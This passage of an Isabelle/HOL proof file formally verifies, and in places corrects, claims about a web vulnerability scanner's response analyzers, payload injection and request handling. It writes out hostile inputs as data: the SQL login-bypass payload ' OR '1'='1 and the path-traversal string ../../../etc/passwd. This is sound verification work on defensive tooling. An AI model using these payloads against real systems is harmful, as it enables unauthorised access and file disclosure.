  by (auto simp: rate_analyzeResponse_def rate_isWAFBlocked_def Let_def push_def new_result_def)

lemma waf_nosql:
  assumes "status r = 403 \<or> status r = 406 \<or> status r = 429"
    and "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) nosql_wafIndicators"
  shows "\<not> vulnerable (fst (nosql_analyzeResponse m r p b)) \<and>
         indicators (fst (nosql_analyzeResponse m r p b)) =
           [check_mark @ '' WAF/Firewall blocked the request''] \<and>
         snd (nosql_analyzeResponse m r p b) = m"
  using assms
  by (simp add: nosql_analyzeResponse_def nosql_isWAFBlocked_def Let_def push_def new_result_def)

lemma waf_header:
  assumes "status r = 403 \<or> status r = 406 \<or> status r = 429"
    and "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) header_wafIndicators"
  shows "\<not> vulnerable (fst (header_analyzeResponse m r p b)) \<and>
         indicators (fst (header_analyzeResponse m r p b)) =
           [check_mark @ '' WAF/Firewall blocked the request''] \<and>
         snd (header_analyzeResponse m r p b) = m"
  using assms
  by (simp add: header_analyzeResponse_def header_isWAFBlocked_def Let_def push_def new_result_def)

lemma blocked_response_facts:
  "status blocked_response = 403"
  "str_includes (toLowerCase (responseBody blocked_response)) ''access denied''"
  by code_simp+

lemma blocked_response_malformed:
  "vulnerable (fst (malformed_analyzeResponse loaded blocked_response ''{}'' None))"
  by code_simp

lemma blocked_response_method:
  "confidence (fst (method_analyzeResponse loaded blocked_response ''TRACE'' None)) = Low"
  by code_simp

lemma blocked_response_size:
  "confidence (fst (size_analyzeResponse loaded blocked_response ''500_chars'' None None)) = Low"
  "indicators (fst (size_analyzeResponse loaded blocked_response ''500_chars'' None None)) = []"
  by code_simp+

text \<open>
  C1, as stated: every one of the ten analyzers answers a blocked request with
  vulnerable=false and confidence=high. For the response with status 403 and the body
  \<^verbatim>\<open>Access denied: exception\<close> the malformed-payload analyzer returns
  vulnerable=true, and the HTTP-method and payload-size analyzers return
  confidence=low, the latter without any indicator: these three have no check for a
  firewall.
\<close>

theorem C1_not_every_analyzer:
  "status blocked_response = 403 \<and>
   str_includes (toLowerCase (responseBody blocked_response)) ''access denied'' \<and>
   vulnerable (fst (malformed_analyzeResponse loaded blocked_response ''{}'' None)) \<and>
   confidence (fst (method_analyzeResponse loaded blocked_response ''TRACE'' None)) = Low \<and>
   confidence (fst (size_analyzeResponse loaded blocked_response ''500_chars'' None None)) = Low \<and>
   indicators (fst (size_analyzeResponse loaded blocked_response ''500_chars'' None None)) = []"
  using blocked_response_facts blocked_response_malformed blocked_response_method
    blocked_response_size by simp

text \<open>
  C1, amended: for a response with status 403, 406 or 429 whose body contains, in any
  letter case, one of the block-indicator phrases of the analyzer in question, the SQL,
  XSS, command-injection and path-traversal analyzers return exactly the record of the
  short-circuit (vulnerable=false, confidence=high, the indicator that the request was
  blocked, for SQL and XSS followed by the status), whatever the payload, the baseline
  and the rest of the body, and the modules are as before; the rate-limiting analyzer
  returns vulnerable=false, confidence=high and one indicator that protection is
  active; the NoSQL and header analyzers return vulnerable=false with the indicator
  that the request was blocked as their only indicator.
\<close>

theorem C1_waf_short_circuit:
  assumes "status r = 403 \<or> status r = 406 \<or> status r = 429"
  shows
    "(list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) sql_wafIndicators \<longrightarrow>
        sql_analyzeResponse m r p b =
          (\<lparr>vulnerable = False, confidence = High,
            indicators = [check_mark @ '' WAF/Firewall blocked the malicious request'',
                          ''Response status: '' @ show_nat (status r)],
            notes = ''PROTECTED: Web Application Firewall detected and blocked the SQL injection attempt. The application is secured by WAF.''\<rparr>, m)) \<and>
     (list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) xss_wafIndicators \<longrightarrow>
        xss_analyzeResponse m r p b =
          (\<lparr>vulnerable = False, confidence = High,
            indicators = [check_mark @ '' WAF/Firewall blocked the malicious request'',
                          ''Response status: '' @ show_nat (status r)],
            notes = ''PROTECTED: Web Application Firewall detected and blocked the XSS attempt. The application is secured by WAF.''\<rparr>, m)) \<and>
     (list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) cmd_wafIndicators \<longrightarrow>
        cmd_analyzeResponse m r p b t =
          (\<lparr>vulnerable = False, confidence = High,
            indicators = [check_mark @ '' WAF/Firewall blocked the malicious request''],
            notes = ''PROTECTED: WAF detected and blocked the command injection attempt.''\<rparr>, m)) \<and>
     (list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) path_wafIndicators \<longrightarrow>
        path_analyzeResponse m r p b =
          (\<lparr>vulnerable = False, confidence = High,
            indicators = [check_mark @ '' WAF/Firewall blocked the malicious request''],
            notes = ''PROTECTED: WAF detected and blocked the path traversal attempt.''\<rparr>, m)) \<and>
     (list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) rate_wafIndicators \<longrightarrow>
        rate_analyzeResponse m r p b t =
          (\<lparr>vulnerable = False, confidence = High,
            indicators = [if status r = 429
                          then check_mark @ '' Rate limiting is active (429 Too Many Requests)''
                          else check_mark @ '' Bot/DDoS protection is active''],
            notes = (if status r = 429 then ''PROTECTED: Server properly implements rate limiting''
                     else ''PROTECTED: Server has anti-bot/rate limiting measures'')\<rparr>, m)) \<and>
     (list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) nosql_wafIndicators \<longrightarrow>
        \<not> vulnerable (fst (nosql_analyzeResponse m r p b)) \<and>
        indicators (fst (nosql_analyzeResponse m r p b)) =
          [check_mark @ '' WAF/Firewall blocked the request''] \<and>
        snd (nosql_analyzeResponse m r p b) = m) \<and>
     (list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) header_wafIndicators \<longrightarrow>
        \<not> vulnerable (fst (header_analyzeResponse m r p b)) \<and>
        indicators (fst (header_analyzeResponse m r p b)) =
          [check_mark @ '' WAF/Firewall blocked the request''] \<and>
        snd (header_analyzeResponse m r p b) = m)"
proof (intro conjI impI)
  assume "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) sql_wafIndicators"
  then show "sql_analyzeResponse m r p b =
          (\<lparr>vulnerable = False, confidence = High,
            indicators = [check_mark @ '' WAF/Firewall blocked the malicious request'',
                          ''Response status: '' @ show_nat (status r)],
            notes = ''PROTECTED: Web Application Firewall detected and blocked the SQL injection attempt. The application is secured by WAF.''\<rparr>, m)"
    by (rule waf_sql [OF assms])
next
  assume "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) xss_wafIndicators"
  then show "xss_analyzeResponse m r p b =
          (\<lparr>vulnerable = False, confidence = High,
            indicators = [check_mark @ '' WAF/Firewall blocked the malicious request'',
                          ''Response status: '' @ show_nat (status r)],
            notes = ''PROTECTED: Web Application Firewall detected and blocked the XSS attempt. The application is secured by WAF.''\<rparr>, m)"
    by (rule waf_xss [OF assms])
next
  assume "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) cmd_wafIndicators"
  then show "cmd_analyzeResponse m r p b t =
          (\<lparr>vulnerable = False, confidence = High,
            indicators = [check_mark @ '' WAF/Firewall blocked the malicious request''],
            notes = ''PROTECTED: WAF detected and blocked the command injection attempt.''\<rparr>, m)"
    by (rule waf_cmd [OF assms])
next
  assume "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) path_wafIndicators"
  then show "path_analyzeResponse m r p b =
          (\<lparr>vulnerable = False, confidence = High,
            indicators = [check_mark @ '' WAF/Firewall blocked the malicious request''],
            notes = ''PROTECTED: WAF detected and blocked the path traversal attempt.''\<rparr>, m)"
    by (rule waf_path [OF assms])
next
  assume "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) rate_wafIndicators"
  then show "rate_analyzeResponse m r p b t =
          (\<lparr>vulnerable = False, confidence = High,
            indicators = [if status r = 429
                          then check_mark @ '' Rate limiting is active (429 Too Many Requests)''
                          else check_mark @ '' Bot/DDoS protection is active''],
            notes = (if status r = 429 then ''PROTECTED: Server properly implements rate limiting''
                     else ''PROTECTED: Server has anti-bot/rate limiting measures'')\<rparr>, m)"
    by (rule waf_rate [OF assms])
next
  assume a: "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) nosql_wafIndicators"
  show "\<not> vulnerable (fst (nosql_analyzeResponse m r p b))"
    "indicators (fst (nosql_analyzeResponse m r p b)) =
       [check_mark @ '' WAF/Firewall blocked the request'']"
    "snd (nosql_analyzeResponse m r p b) = m"
    using waf_nosql [OF assms a, of m p b] by simp_all
next
  assume a: "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) header_wafIndicators"
  show "\<not> vulnerable (fst (header_analyzeResponse m r p b))"
    "indicators (fst (header_analyzeResponse m r p b)) =
       [check_mark @ '' WAF/Firewall blocked the request'']"
    "snd (header_analyzeResponse m r p b) = m"
    using waf_header [OF assms a, of m p b] by simp_all
qed

lemma blocked_response_phrase:
  "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody blocked_response)) i) sql_wafIndicators"
  "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody blocked_response)) i) nosql_wafIndicators"
  using blocked_response_facts(2)
  by (simp_all add: sql_wafIndicators_def nosql_wafIndicators_def)

theorem C1_waf_short_circuit_witness:
  "(status blocked_response = 403 \<or> status blocked_response = 406 \<or> status blocked_response = 429) \<and>
   list_ex (\<lambda>i. str_includes (toLowerCase (responseBody blocked_response)) i) sql_wafIndicators \<and>
   list_ex (\<lambda>i. str_includes (toLowerCase (responseBody blocked_response)) i) nosql_wafIndicators \<and>
   \<not> vulnerable (fst (sql_analyzeResponse loaded blocked_response auth_payload None)) \<and>
   confidence (fst (sql_analyzeResponse loaded blocked_response auth_payload None)) = High \<and>
   \<not> vulnerable (fst (nosql_analyzeResponse loaded blocked_response auth_payload None))"
proof -
  have h: "status blocked_response = 403 \<or> status blocked_response = 406 \<or>
           status blocked_response = 429"
    using blocked_response_facts(1) by simp
  show ?thesis
    using C1_waf_short_circuit [OF h, of loaded auth_payload None None]
      blocked_response_phrase h
    by simp
qed

section \<open>Path traversal against a baseline of 404\<close>

lemma path_baseline:
  assumes "status r = 200"
    and "\<not> str_includes (toLowerCase (responseBody r)) ''cloudflare ray id''"
  shows "vulnerable (fst (path_analyzeResponse m r p (Some 404))) \<and>
         confidence (fst (path_analyzeResponse m r p (Some 404))) = Medium"
  using assms
  by (simp add: path_analyzeResponse_def path_isWAFBlocked_def Let_def push_def new_result_def
        split: prod.splits option.splits)

lemma proxy_response_facts:
  "status proxy_response = 200"
  "str_includes (toLowerCase (responseBody proxy_response)) ''cloudflare ray id''"
  by code_simp+

lemma proxy_response_path:
  "path_analyzeResponse m proxy_response p (Some 404) =
    (\<lparr>vulnerable = False, confidence = High,
      indicators = [check_mark @ '' WAF/Firewall blocked the malicious request''],
      notes = ''PROTECTED: WAF detected and blocked the path traversal attempt.''\<rparr>, m)"
  using proxy_response_facts(2)
  by (simp add: path_analyzeResponse_def path_isWAFBlocked_def Let_def push_def new_result_def)

text \<open>
  C6, as stated: every response with status 200 against a baseline of 404 is
  vulnerable with confidence medium. A response with status 200 whose body carries the
  fingerprint \<^verbatim>\<open>Cloudflare Ray ID\<close> is taken for blocked first: vulnerable=false,
  confidence=high.
\<close>

theorem C6_fingerprint_comes_first:
  "status proxy_response = 200 \<and>
   \<not> vulnerable (fst (path_analyzeResponse loaded proxy_response ''../../../etc/passwd'' (Some 404))) \<and>
   confidence (fst (path_analyzeResponse loaded proxy_response ''../../../etc/passwd'' (Some 404))) = High"
  using proxy_response_facts(1) by (simp add: proxy_response_path)

text \<open>
  C6, amended: for every response with status 200 whose body does not contain
  \<^verbatim>\<open>cloudflare ray id\<close> in any letter case, the path-traversal analyzer, against a
  baseline status of 404, returns vulnerable=true with confidence=medium, whatever the
  payload and whatever else the body and the headers hold.
\<close>

theorem C6_path_baseline:
  assumes "status r = 200"
    and "\<not> str_includes (toLowerCase (responseBody r)) ''cloudflare ray id''"
  shows "vulnerable (fst (path_analyzeResponse m r p (Some 404))) \<and>
         confidence (fst (path_analyzeResponse m r p (Some 404))) = Medium"
  using assms by (rule path_baseline)

lemma login_response_facts:
  "status login_response = 200"
  \<open>str_includes (responseBody login_response) ''"token":"abc"''\<close>
  "\<not> str_includes (toLowerCase (responseBody login_response)) ''cloudflare ray id''"
  "\<not> sql_isWAFBlocked login_response (responseBody login_response)"
  by code_simp+

theorem C6_path_baseline_witness:
  "status login_response = 200 \<and>
   \<not> str_includes (toLowerCase (responseBody login_response)) ''cloudflare ray id'' \<and>
   vulnerable (fst (path_analyzeResponse loaded login_response ''../../../etc/passwd'' (Some 404))) \<and>
   confidence (fst (path_analyzeResponse loaded login_response ''../../../etc/passwd'' (Some 404))) = Medium"
  using C6_path_baseline [OF login_response_facts(1) login_response_facts(3),
      of loaded "''../../../etc/passwd''"] login_response_facts
  by simp

section \<open>The bypass of a login\<close>

lemma sql_auth_bypass:
  assumes "status r = 200"
    and \<open>str_includes (responseBody r) ''"token":"abc"''\<close>
    and "\<not> sql_isWAFBlocked r (responseBody r)"
  shows "vulnerable (fst (sql_analyzeResponse m r auth_payload original)) \<and>
         warning_sign @ '' Potential authentication bypass''
           \<in> set (indicators (fst (sql_analyzeResponse m r auth_payload original))) \<and>
         confidence (fst (sql_analyzeResponse m r auth_payload original)) =
           (case original of None \<Rightarrow> High | Some b \<Rightarrow> if 400 \<le> b then Medium else High)"
proof -
  obtain a b where \<open>responseBody r = a @ ''"token":"abc"'' @ b\<close>
    using assms(2) str_includes_split by blast
  then have \<open>responseBody r = (a @ ''"'') @ ''token'' @ (''":"abc"'' @ b)\<close> by simp
  then have "str_includes (responseBody r) ''token''"
    using str_includes_append by metis
  then have auth: "test_literal sql_auth_regexp (responseBody r)"
    by (intro test_literal_alts [where w = "''token''" and rs = "[lit ''success'',
          lit ''authenticated'', lit ''welcome'', lit ''token'', lit ''session'', lit ''jwt'',
          lit ''bearer'']"])
       (simp_all add: sql_auth_regexp_def regexp_literal_def del: alts.simps lit.simps)
  have pl: "str_includes auth_payload (''OR '1'='1'')"
    by (simp add: auth_payload_def)
  show ?thesis
    using assms(1,3) auth pl
    by (auto simp: sql_analyzeResponse_def Let_def push_def new_result_def
             split: prod.splits option.splits)
qed

text \<open>
  C7, as stated: the payload \<^verbatim>\<open>' OR '1'='1\<close> and a response with status 200 whose
  body contains \<^verbatim>\<open>"token":"abc"\<close> give confidence=high. Against a baseline status of
  401, as the login gives without the payload, the later comparison with the baseline
  sets the confidence to medium.
\<close>

theorem C7_baseline_lowers_confidence:
  \<open>status login_response = 200 \<and>
   str_includes (responseBody login_response) ''"token":"abc"'' \<and>
   \<not> sql_isWAFBlocked login_response (responseBody login_response) \<and>
   confidence (fst (sql_analyzeResponse loaded login_response auth_payload (Some 401))) = Medium\<close>
  using sql_auth_bypass [OF login_response_facts(1,2,4), of loaded "Some 401"]
    login_response_facts
  by simp

text \<open>
  C7, amended: given the payload \<^verbatim>\<open>' OR '1'='1\<close> and a response with status 200
  whose body contains \<^verbatim>\<open>"token":"abc"\<close> and that is not taken for blocked, the SQL
  analyzer returns vulnerable=true with the indicator of a potential authentication
  bypass; the confidence is high when there is no baseline or the baseline status is
  below 400, and medium when the baseline status is 400 or more.
\<close>

theorem C7_sql_auth_bypass:
  assumes "status r = 200"
    and \<open>str_includes (responseBody r) ''"token":"abc"''\<close>
    and "\<not> sql_isWAFBlocked r (responseBody r)"
  shows "vulnerable (fst (sql_analyzeResponse m r auth_payload original)) \<and>
         warning_sign @ '' Potential authentication bypass''
           \<in> set (indicators (fst (sql_analyzeResponse m r auth_payload original))) \<and>
         confidence (fst (sql_analyzeResponse m r auth_payload original)) =
           (case original of None \<Rightarrow> High | Some b \<Rightarrow> if 400 \<le> b then Medium else High)"
  using assms by (rule sql_auth_bypass)

theorem C7_sql_auth_bypass_witness:
  \<open>status login_response = 200 \<and>
   str_includes (responseBody login_response) ''"token":"abc"'' \<and>
   \<not> sql_isWAFBlocked login_response (responseBody login_response) \<and>
   vulnerable (fst (sql_analyzeResponse loaded login_response auth_payload (Some 200))) \<and>
   confidence (fst (sql_analyzeResponse loaded login_response auth_payload (Some 200))) = High\<close>
  using C7_sql_auth_bypass [OF login_response_facts(1,2,4), of loaded "Some 200"]
    login_response_facts
  by simp

section \<open>The injection strategy\<close>

lemma injectPayload_nonempty: "injectPayload e p loc \<noteq> []"
  by (simp add: injectPayload_def Let_def)

lemma injectPayload_fallback:
  assumes "loc = ''body''" "method e \<notin> set [''POST'', ''PUT'', ''PATCH'']"
    "body_keys (body e) = []"
  shows "injectPayload e p loc =
     [(modified e ''Query param: test (fallback)'')
        \<lparr>queryParams := Some (AList.update ''test'' (JStr p) (or_empty (queryParams e)))\<rparr>]"
  using assms by (cases "body e") (auto simp: injectPayload_def Let_def)

lemma map_of_update_same: "map_of (AList.update k v al) k = Some v"
  by (simp add: update_conv')

text \<open>
  The call throws where the rule of the path meets a payload with an unpaired
  surrogate, and returns the variants everywhere else.
\<close>

lemma injectPayload_call_returns:
  "injectPayload_call e p loc =
     (if (loc = ''path'' \<or> loc = ''all'') \<and> unpaired_surrogate p then Inl URIError
      else Inr (injectPayload e p loc))"
  by (simp add: injectPayload_call_def injectPayload_def encodeURIComponent_call_def Let_def)

text \<open>
  C3, as stated: every payload yields at least one variant, for every location. With
  the location \<^verbatim>\<open>path\<close> and the payload that is the one unpaired surrogate
  \<^verbatim>\<open>U+D800\<close>, \<^verbatim>\<open>encodeURIComponent\<close> throws \<^verbatim>\<open>URIError\<close>, and so does the call: it
  returns no list.
\<close>

theorem C3_payload_refused:
  "injectPayload_call example_endpoint [CHR 0xED, CHR 0xA0, CHR 0x80] ''path'' = Inl URIError"
  by (simp add: injectPayload_call_def encodeURIComponent_call_def Let_def)

text \<open>
  C3, amended: for every endpoint, every location (any text) and every payload without
  an unpaired surrogate, and for every payload when the location is neither \<^verbatim>\<open>path\<close>
  nor \<^verbatim>\<open>all\<close>, the call of \<open>injectPayload\<close> returns a list with at least one variant.
  With the location \<^verbatim>\<open>body\<close>, a method other than POST, PUT and PATCH, and no key of a
  structured body to replace, it returns exactly one variant: the endpoint with the
  query key \<^verbatim>\<open>test\<close> set to the payload, labelled as the fallback.
\<close>

theorem C3_injectPayload_nonempty:
  assumes "\<not> unpaired_surrogate p \<or> loc \<noteq> ''path'' \<and> loc \<noteq> ''all''"
  shows "\<exists>vs. injectPayload_call e p loc = Inr vs \<and> vs \<noteq> [] \<and>
     (loc = ''body'' \<and> method e \<notin> set [''POST'', ''PUT'', ''PATCH''] \<and> body_keys (body e) = [] \<longrightarrow>
        (\<exists>v q. vs = [v] \<and>
           v = (modified e ''Query param: test (fallback)'')\<lparr>queryParams := Some q\<rparr> \<and>
           q = AList.update ''test'' (JStr p) (or_empty (queryParams e)) \<and>
           map_of q ''test'' = Some (JStr p)))"
proof -
  from assms have "injectPayload_call e p loc = Inr (injectPayload e p loc)"
    by (auto simp: injectPayload_call_returns)
  then show ?thesis
    using injectPayload_nonempty [of e p loc] injectPayload_fallback [of loc e p]
      map_of_update_same [of "''test''" "JStr p" "or_empty (queryParams e)"]
    by auto
qed

theorem C3_injectPayload_nonempty_witness:
  "\<not> unpaired_surrogate ''x'' \<and>
   method example_endpoint \<notin> set [''POST'', ''PUT'', ''PATCH''] \<and>
   body_keys (body example_endpoint) = [] \<and>
   (\<exists>vs v q. injectPayload_call example_endpoint ''x'' ''body'' = Inr vs \<and> vs = [v] \<and>
      v = (modified example_endpoint ''Query param: test (fallback)'')\<lparr>queryParams := Some q\<rparr> \<and>
      q = AList.update ''test'' (JStr ''x'') (or_empty (queryParams example_endpoint)) \<and>
      map_of q ''test'' = Some (JStr ''x''))"
proof -
  have h: "\<not> unpaired_surrogate ''x''"
    "method example_endpoint \<notin> set [''POST'', ''PUT'', ''PATCH'']"
    "body_keys (body example_endpoint) = []"
    by (simp_all add: example_endpoint_def)
  show ?thesis
    using C3_injectPayload_nonempty [of "''x''" "''body''" example_endpoint] h by blast
qed

section \<open>The dispatcher\<close>

lemma sendRequest_resolves: "\<exists>res. sendRequest w t e = (Inr res, t + 3)"
  by (simp add: sendRequest_def Let_def split: sum.splits)

lemma sendRequest_failure:
  assumes "axios w (t + 1) (request_config e) = Inl err"
  shows "\<exists>res. sendRequest w t e = (Inr res, t + 3) \<and> \<not> success res \<and>
           (error_response err = None \<longrightarrow> status (response res) = 0) \<and>
           error res = Some (if code err = Some ''ECONNREFUSED''
                             then ''Connection refused - server may be down''
                             else if code err = Some ''ETIMEDOUT'' then ''Request timed out''
                             else message err)"
  using assms by (simp add: sendRequest_def Let_def)

text \<open>
  C4. \<open>sendRequest\<close> always resolves: its outcome is \<open>Inr\<close>, never the rejection
  \<open>Inl\<close>. When the HTTP client rejects with an error, the result has success=false, a
  response with status 0 if the error carries no response, and the message
  \<^verbatim>\<open>Connection refused - server may be down\<close> for the code ECONNREFUSED,
  \<^verbatim>\<open>Request timed out\<close> for ETIMEDOUT, and the message of the error otherwise.
\<close>

theorem C4_sendRequest_resolves:
  "(\<exists>res. sendRequest w t e = (Inr res, t + 3)) \<and>
   (\<forall>err. axios w (t + 1) (request_config e) = Inl err \<longrightarrow>
      (\<exists>res. sendRequest w t e = (Inr res, t + 3) \<and> \<not> success res \<and>
         (error_response err = None \<longrightarrow> status (response res) = 0) \<and>
         error res = Some (if code err = Some ''ECONNREFUSED''
                           then ''Connection refused - server may be down''
                           else if code err = Some ''ETIMEDOUT'' then ''Request timed out''
                           else message err)))"
  using sendRequest_resolves [of w t e] sendRequest_failure [of w t e] by blast

theorem C4_sendRequest_resolves_witness:
  "axios refusing_world 1 (request_config example_endpoint) =
     Inl \<lparr>code = Some ''ECONNREFUSED'', message = ''connect ECONNREFUSED'', error_response = None\<rparr> \<and>
   (\<exists>res. sendRequest refusing_world 0 example_endpoint = (Inr res, 3) \<and> \<not> success res \<and>
      status (response res) = 0 \<and>
      error res = Some ''Connection refused - server may be down'')"
proof -
  have h: "axios refusing_world (0 + 1) (request_config example_endpoint) =
     Inl \<lparr>code = Some ''ECONNREFUSED'', message = ''connect ECONNREFUSED'', error_response = None\<rparr>"
    by (simp add: refusing_world_def)
  show ?thesis
    using C4_sendRequest_resolves [of refusing_world 0 example_endpoint] h by force
qed

section \<open>The number of test records\<close>

lemma fold_invariant:
  assumes "P a" and "\<And>x a. P a \<Longrightarrow> P (f x a)"
  shows "P (fold f xs a)"
  using assms(1) by (induction xs arbitrary: a) (auto intro: assms(2))

lemma fold_measure_le:
  fixes \<mu> :: "'s \<Rightarrow> nat"
  assumes "\<And>x a. \<mu> (f x a) \<le> \<mu> a + k"
  shows "\<mu> (fold f xs a) \<le> \<mu> a + k * length xs"
proof (induction xs arbitrary: a)
  case Nil
  then show ?case by simp
next
  case (Cons x xs)
  have "\<mu> (fold f xs (f x a)) \<le> \<mu> (f x a) + k * length xs" by (rule Cons.IH)
  also have "\<dots> \<le> \<mu> a + k + k * length xs" using assms [of x a] by simp
  finally show ?case by simp
qed

text \<open>Every pass of the innermost loop pushes one record and counts it.\<close>

lemma run_test_counted: "counted (run_test w sc bl p v a) = counted a + 1"
  by (cases a)
     (auto simp: run_test_def counted_def Let_def split: prod.splits sum.splits option.splits)

lemma run_test_consistent: "consistent a \<Longrightarrow> consistent (run_test w sc bl p v a)"
  by (cases a)
     (auto simp: run_test_def consistent_def Let_def split: prod.splits sum.splits option.splits)

lemma variants_counted:
  "counted (fold (run_test w sc bl p) vs a) = counted a + length vs"
  by (induction vs arbitrary: a) (simp_all add: run_test_counted)

lemma payload_counted:
  "counted (fold (run_test w sc bl p) (take 2 (injectPayload e p loc)) a) \<le> counted a + 2"
  by (simp add: variants_counted)

lemma distinct_filter_le_one:
  "distinct (map f xs) \<Longrightarrow> length (filter (\<lambda>x. f x = t) xs) \<le> 1"
proof (induction xs)
  case Nil
  then show ?case by simp
next
  case (Cons x xs)
  show ?case
  proof (cases "f x = t")
    case True
    with Cons.prems have "\<forall>y \<in> set xs. f y \<noteq> t" by (auto simp: image_iff)
    then have "filter (\<lambda>x. f x = t) xs = []" by (simp add: filter_empty_conv)
    with True show ?thesis by simp
  next
    case False
    with Cons show ?thesis by simp
  qed
qed

lemma distinct_types: "distinct (map getType scanners)"
  by (simp add: scanners_def sqlScanner_def xssScanner_def commandInjectionScanner_def
        pathTraversalScanner_def nosqlInjectionScanner_def headerInjectionScanner_def
        rateLimitingScanner_def malformedPayloadScanner_def httpMethodScanner_def
        payloadSizeScanner_def)

lemma one_type_one_scanner:
  assumes "scanTypes opts = Some [t]"
  shows "length (scannersToUse opts) \<le> 1"
  using assms distinct_filter_le_one [OF distinct_types, of t]
  by (simp add: scannersToUse_def)

lemma three_payloads:
  assumes "maxPayloads opts = Some 3"
  shows "length (slice0 xs (maxPayloads_used opts)) \<le> 3"
  using assms by (simp add: maxPayloads_used_def slice0_def)


text \<open>
  No payload of the catalogue has an unpaired surrogate, so in a scan the call of
  \<open>injectPayload\<close> returns and no pass of the loops of \<open>scanEndpoint\<close> throws.
\<close>

lemma catalogue_encodes:
  "sc \<in> set scanners \<Longrightarrow> p \<in> set (getPayloads sc) \<Longrightarrow> \<not> unpaired_surrogate p"
  by (auto simp: scanners_def sqlScanner_def xssScanner_def commandInjectionScanner_def
        pathTraversalScanner_def nosqlInjectionScanner_def headerInjectionScanner_def
        rateLimitingScanner_def malformedPayloadScanner_def httpMethodScanner_def
        payloadSizeScanner_def sqlInjection_def xss_def commandInjection_def pathTraversal_def
        nosqlInjection_def headerInjection_def malformedPayloads_def httpMethods_def sizeTests_def)

lemma payloads_fold_returns:
  assumes "\<forall>p \<in> set ps. injectPayload_call e p loc = Inr (injectPayload e p loc)"
  shows "fold (\<lambda>payload (outcome, s).
            case outcome of
              Inl thrown \<Rightarrow> (Inl thrown, s)
            | Inr results \<Rightarrow>
                (case injectPayload_call e payload loc of
                   Inl thrown \<Rightarrow> (Inl thrown, s)
                 | Inr injectedEndpoints \<Rightarrow>
                     (case fold (run_test w sc bl payload) (take 2 injectedEndpoints) (results, s) of
                        (results, s) \<Rightarrow> (Inr results, s))))
          ps (Inr r, s) =
         (Inr (fst (fold (\<lambda>p. fold (run_test w sc bl p) (take 2 (injectPayload e p loc))) ps (r, s))),
          snd (fold (\<lambda>p. fold (run_test w sc bl p) (take 2 (injectPayload e p loc))) ps (r, s)))"
  using assms
proof (induction ps arbitrary: r s)
  case Nil
  then show ?case by simp
next
  case (Cons p ps)
  obtain r' s' where step: "fold (run_test w sc bl p) (take 2 (injectPayload e p loc)) (r, s) = (r', s')"
    by (cases "fold (run_test w sc bl p) (take 2 (injectPayload e p loc)) (r, s)")
  from Cons.prems have "injectPayload_call e p loc = Inr (injectPayload e p loc)"
    and rest: "\<forall>p \<in> set ps. injectPayload_call e p loc = Inr (injectPayload e p loc)"
    by simp_all
  with step Cons.IH [OF rest, of r' s'] show ?case by simp
qed

lemma scanners_fold_returns:
  assumes "\<forall>sc \<in> set scs. \<forall>p \<in> set (ps sc). injectPayload_call e p loc = Inr (injectPayload e p loc)"
  shows "fold (\<lambda>scanner.
            fold (\<lambda>payload (outcome, s).
                case outcome of
                  Inl thrown \<Rightarrow> (Inl thrown, s)
                | Inr results \<Rightarrow>
                    (case injectPayload_call e payload loc of
                       Inl thrown \<Rightarrow> (Inl thrown, s)
                     | Inr injectedEndpoints \<Rightarrow>
                         (case fold (run_test w scanner bl payload) (take 2 injectedEndpoints) (results, s) of
                            (results, s) \<Rightarrow> (Inr results, s))))
              (ps scanner))
          scs (Inr r, s) =
         (Inr (fst (fold (\<lambda>sc. fold (\<lambda>p. fold (run_test w sc bl p) (take 2 (injectPayload e p loc))) (ps sc)) scs (r, s))),
          snd (fold (\<lambda>sc. fold (\<lambda>p. fold (run_test w sc bl p) (take 2 (injectPayload e p loc))) (ps sc)) scs (r, s)))"
  using assms
proof (induction scs arbitrary: r s)
  case Nil
  then show ?case by simp
next
  case (Cons sc scs)
  obtain r' s' where step:
    "fold (\<lambda>p. fold (run_test w sc bl p) (take 2 (injectPayload e p loc))) (ps sc) (r, s) = (r', s')"
    by (cases "fold (\<lambda>p. fold (run_test w sc bl p) (take 2 (injectPayload e p loc))) (ps sc) (r, s)")
  from Cons.prems have here: "\<forall>p \<in> set (ps sc). injectPayload_call e p loc = Inr (injectPayload e p loc)"
    and rest: "\<forall>sc \<in> set scs. \<forall>p \<in> set (ps sc). injectPayload_call e p loc = Inr (injectPayload e p loc)"
    by simp_all
  show ?case
    using payloads_fold_returns [OF here, of w sc bl r s] step Cons.IH [OF rest, of r' s']
    by simp
qed

lemma set_slice0: "set (slice0 xs n) \<subseteq> set xs"
  by (auto simp: slice0_def dest: in_set_takeD)

lemma set_scannersToUse: "set (scannersToUse opts) \<subseteq> set scanners"
  by (auto simp: scannersToUse_def split: option.splits if_splits)

lemma scan_payloads_encode:
  assumes "sc \<in> set (scannersToUse opts)" and "p \<in> set (slice0 (getPayloads sc) n)"
  shows "injectPayload_call e p loc = Inr (injectPayload e p loc)"
proof -
  from assms have "sc \<in> set scanners" "p \<in> set (getPayloads sc)"
    using set_scannersToUse [of opts] set_slice0 [of "getPayloads sc" n] by auto
  then have "\<not> unpaired_surrogate p" by (rule catalogue_encodes)
  then show ?thesis by (simp add: injectPayload_call_returns)
qed

lemma scanEndpoint_scan_tests:
  "\<exists>bl t0. scanEndpoint w s e opts =
     (Inr (fst (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>))),
      snd (scan_tests w e opts bl (scan_start e, s\<lparr>tick := t0\<rparr>)))"
proof -
  have enc: "\<forall>sc \<in> set (scannersToUse opts).
      \<forall>p \<in> set (slice0 (getPayloads sc) (maxPayloads_used opts)).
        injectPayload_call e p (injectLocation_used opts) =
